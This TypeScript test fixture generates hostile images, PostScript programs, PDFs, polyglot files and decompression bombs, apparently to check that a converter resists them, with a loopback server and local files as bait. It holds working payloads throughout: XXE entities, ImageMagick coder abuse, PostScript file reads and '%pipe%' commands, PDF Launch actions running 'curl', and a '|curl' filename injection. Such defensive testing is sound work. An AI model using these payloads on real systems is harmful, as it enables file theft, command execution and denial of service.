/**
 * Hostile pictures and documents: each tries to read a file of the machine, to call a web server, to run something or to
 * grow without end. Made here, so that what they reach for is the test's own.
 */
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { samplePdf, stream } from './sample-pdf.ts'
import { zipOf } from './zip-of.ts'

export interface Bait {
  /** A text file, and a picture, that anybody on the machine may read. */
  file: string
  picture: string
  /** A web server on loopback. */
  url: string
}

export interface Trap {
  name: string
  bytes: Uint8Array
}
export type Traps = Readonly<Record<string, Trap>>

const svg = (inside: string, head = ''): Buffer =>
  Buffer.from(
    `<?xml version="1.0"?>${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="100">${inside}</svg>`,
  )

export function drawings({ file, picture, url }: Bait): Traps {
  const image = (href: string): string => `<image xlink:href="${href}" href="${href}" width="400" height="100"/>`
  const lettered = '<text y="50" font-size="20">&x;</text>'
  const all: Record<string, Buffer> = {
    'an entity that is a file': svg(lettered, `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${file}">]>`),
    'an entity from the web': svg(lettered, `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]>`),
    'pictures that are files': svg(image(`file://${picture}`) + image(picture)),
    'pictures from the web': svg(
      `${image(`${url}/a.png`)}<style>@import url("${url}/a.css");</style><use href="${url}/a.svg#x"/>`,
    ),
    'pictures by a coder': svg(
      ['text:', 'label:@', 'caption:@', 'msl:', 'ephemeral:'].map((c) => image(c + file)).join(''),
    ),
    'a script of ImageMagick': Buffer.from(
      `<?xml version="1.0"?><image><read filename="text:${file}"/><write filename="/tmp/out.png"/></image>`,
    ),
  }
  return Object.fromEntries(Object.entries(all).map(([what, bytes]) => [what, { name: 'drawing.svg', bytes }]))
}

export function programs({ file }: Bait): Traps {
  const eps = '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 100\n'
  const font = '/Courier findfont 18 scalefont setfont 10 50 moveto '
  const caught = (risky: string): string => `${eps}${font}{ ${risky} } stopped pop showpage\n`
  const all: Record<string, string> = {
    'reads a file': caught(`(${file}) (r) file 200 string readline pop show`),
    'reads a file through its own names': caught(`(%os%${file}) (r) file 200 string readline pop show`),
    'runs a file': caught(`(${file}) run`),
    'lists a folder': caught(`(${file.replace(/[^/]+$/, '*')}) { show } 200 string filenameforall`),
    'runs a command': caught(`(%pipe%cat ${file}) (r) file 200 string readline pop show`),
    'opens what it may not': caught(
      `<< /PermitFileReading [(*)] >> setuserparams (${file}) (r) file 200 string readline pop show`,
    ),
    'writes over a file': caught(`(${file}) (w) file dup (gone) writestring closefile`),
  }
  return Object.fromEntries(
    Object.entries(all).map(([what, text], index) => {
      // Half of them as plain PostScript, which is drawn in another way.
      const [name, bytes] = index % 2 ? ['program.ps', text.replace(' EPSF-3.0', '')] : ['program.eps', text]
      return [`PostScript that ${what}`, { name, bytes: Buffer.from(bytes) }]
    }),
  )
}

export function documents({ file, picture, url }: Bait): Traps {
  const page = { width: 400, height: 100, text: 'Page' }
  const link = (action: string): string => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 400 100]/A<<${action}>>>>]`
  const opens = (action: string): Buffer =>
    samplePdf({ pages: [{ ...page, more: link(action) }], catalog: `/OpenAction<<${action}>>` })
  const outside = (where: string): string => `/F<</Type/Filespec/FS/URL/F(${where})/UF(${where})>>`
  const external = (where: string, entries = ''): Buffer =>
    samplePdf({
      pages: [{ ...page, paint: 'q 400 0 0 100 0 0 cm /I Do Q' }],
      objects: [
        stream(
          '',
          `/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray${where}${entries}`,
        ),
      ],
    })
  const contents = (where: string): Buffer => {
    const text = samplePdf({ pages: [page] }).toString('latin1')
    return Buffer.from(
      text.replace(/<<\/Length (\d+)>>/, `<</Length $1/F(${where})/FFilter/ASCIIHexDecode>>`),
      'latin1',
    )
  }
  const all: Record<string, Buffer> = {
    'opens an address': opens(`/S/URI/URI(${url}/uri)`),
    'starts a program': opens(`/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c curl ${url}/launch)>>`),
    'runs a script': opens(
      `/S/JavaScript/JS(app.launchURL("${url}/js"); this.submitForm("${url}/js2"); util.readFileIntoStream("${file}"))`,
    ),
    'sends a form': opens(`/S/SubmitForm/F<</FS/URL/F(${url}/form)>>/Flags 4`),
    'goes to another document': opens(`/S/GoToR/F(${file})/D[0/Fit]`),
    'has a picture that is a file': external(`/F(${picture})/FFilter/DCTDecode`),
    'has a picture from the web': external(outside(`${url}/picture`)),
    'has its contents in a file': contents(file),
    'has an embedded file that is elsewhere': samplePdf({
      pages: [page],
      catalog: `/Names<</EmbeddedFiles<</Names[(x) 10 0 R]>>>>/AF[10 0 R]`,
      objects: [
        `<</Type/Filespec/F(${file})/UF(${file})/EF<</F 11 0 R>>>>`,
        stream('', `/Type/EmbeddedFile/F(${file})`),
      ],
    }),
    'has a form from the web': samplePdf({
      pages: [page],
      catalog: '/AcroForm<</Fields[]/XFA 10 0 R>>',
      objects: [
        stream(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><image href="${url}/xfa"/><!ENTITY x SYSTEM "file://${file}"></xdp:xdp>`,
        ),
      ],
    }),
    'names a font file': samplePdf({
      pages: [{ ...page, paint: 'BT /G 20 Tf 10 10 Td (Font) Tj ET', more: '' }],
      objects: [
        `<</Type/Font/Subtype/TrueType/BaseFont/${file.replaceAll('/', '#2f')}/FontDescriptor<</FontFile2<</F(${file})>>>>>>`,
      ],
    }),
  }
  return Object.fromEntries(
    Object.entries(all).map(([what, bytes]) => [`a PDF that ${what}`, { name: 'document.pdf', bytes }]),
  )
}

export async function disguises({ file, picture, url }: Bait): Promise<Traps> {
  const page = `<html><img src="${url}/a.png"><script>fetch("${url}/x")</script><iframe src="file://${file}"></iframe></html>`
  const photo = (as: 'gif' | 'jpeg' | 'png') =>
    sharp({ create: { width: 40, height: 20, channels: 3, background: '#888' } })
      .toFormat(as)
      .toBuffer()
  const mvg = `push graphic-context\nviewbox 0 0 400 100\nimage over 0,0 0,0 'url(${url}/a.png)'\nimage over 0,0 400,100 'text:${file}'\npop graphic-context\n`
  const link = zipOf({ '01.png': Buffer.from(picture) })
  // Made by Unix, and a symbolic link: as the directory of the archive says.
  const at = link.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  link[at + 5] = 3
  link.writeUInt32LE(0o120777 * 0x10000, at + 38)
  return {
    'a page behind a GIF': { name: 'a.gif', bytes: Buffer.concat([await photo('gif'), Buffer.from(page)]) },
    'a page behind a JPEG, named as one': {
      name: 'a.html',
      bytes: Buffer.concat([await photo('jpeg'), Buffer.from(page)]),
    },
    'a GIF that is a page': { name: 'a.gif', bytes: Buffer.from(`GIF89a/*${page}*/=1;`) },
    'a page in a document': { name: 'a.pdf', bytes: Buffer.from(`%PDF-1.4\n${page}`) },
    'drawing commands as a picture': { name: 'a.png', bytes: Buffer.from(mvg) },
    'drawing commands': { name: 'a.mvg', bytes: Buffer.from(mvg) },
    'a text that names a file': { name: 'a.jpg', bytes: Buffer.from(`@${file}\ntext:${file}\n`) },
    'a playlist as a picture': {
      name: 'a.jpg',
      bytes: Buffer.from(`#EXTM3U\n#EXTINF:1,\nfile://${file}\n${url}/a.ts\n`),
    },
    'an archive as a picture': {
      name: 'a.jpg',
      bytes: zipOf({ 'a.txt': Buffer.from('text'), '../b.png': await photo('png') }),
    },
    'a comic with a link in it': { name: 'a.cbz', bytes: link },
    'a comic that draws from elsewhere': {
      name: 'a.cbz',
      bytes: zipOf({ '01.svg': svg(`<image href="${url}/a.png"/>`) }),
    },
    'a picture whose name is an address': { name: `${url}/name.png`, bytes: await photo('png') },
    'a picture whose name is a command': { name: `|curl ${url}|.png`, bytes: await photo('png') },
    'a picture whose name is a file': { name: `text:${file}`, bytes: await photo('png') },
  }
}

/** A PDF of one page whose contents unpack to far more than they are. */
function packedWell(): Buffer {
  const packed = deflateSync(Buffer.alloc(100_000_000, ' '), { level: 9 }).toString('latin1')
  return samplePdf({
    pages: [{ text: 'Page', paint: '/I Do' }],
    objects: [stream(packed, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Filter/FlateDecode')],
  })
}

/** Files that would take for ever, or all the room there is. */
export const bombs = (): Traps => ({
  'a program without end': { name: 'a.ps', bytes: Buffer.from('%!PS\n{ 1 pop } loop\n') },
  'pages in a circle': {
    name: 'a.pdf',
    bytes: Buffer.from(
      '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\nendobj\ntrailer\n<</Size 3/Root 1 0 R>>\n',
    ),
  },
  'a form that draws itself': {
    name: 'a.pdf',
    bytes: samplePdf({
      pages: [{ text: 'Page', paint: '/I Do' }],
      objects: [stream('/I Do /I Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I 10 0 R>>>>')],
    }),
  },
  'a page of a million inches': {
    name: 'a.pdf',
    bytes: samplePdf({ pages: [{ width: 7e7, height: 7e7, text: 'Page' }] }),
  },
  'contents that unpack to far too much': { name: 'a.pdf', bytes: packedWell() },
})
